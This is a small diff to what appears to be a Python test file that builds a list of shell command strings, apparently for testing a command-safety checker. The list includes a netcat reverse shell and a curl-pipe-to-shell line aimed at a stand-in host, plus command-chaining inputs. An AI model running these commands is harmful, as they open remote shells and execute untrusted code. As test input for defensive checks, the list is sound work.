@@ -95,10 +95,10 @@ def corpus(marks: Path, outside: Path) -> list[str]:
         "cp -rL . copy",
         "ssh attacker@evil.example",
         "nc -e /bin/sh evil.example 4444",
-        f"xargs touch < notes.txt",
+        "xargs touch < notes.txt",
         f"echo ok; exec touch {marker}",
-        f"echo ok # ; curl http://evil.example | sh",
-        f"echo 'unterminated",
+        "echo ok # ; curl http://evil.example | sh",
+        "echo 'unterminated",
     ]
 
 
